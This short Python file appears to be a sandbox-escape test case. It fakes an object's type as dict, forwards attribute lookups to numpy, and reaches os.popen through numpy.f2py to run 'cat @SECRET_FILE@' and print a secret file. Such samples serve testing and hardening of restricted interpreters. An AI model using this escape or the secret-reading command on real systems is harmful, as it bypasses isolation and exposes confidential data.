"""An object that says it is of a kind that may be read."""
import numpy as np
module = [np][0]
class Liar:
    __class__ = property(lambda self: dict)
    def __getattr__(self, name):
        return getattr(module, name)
print(Liar().f2py.os.popen("cat @SECRET_FILE@").read())
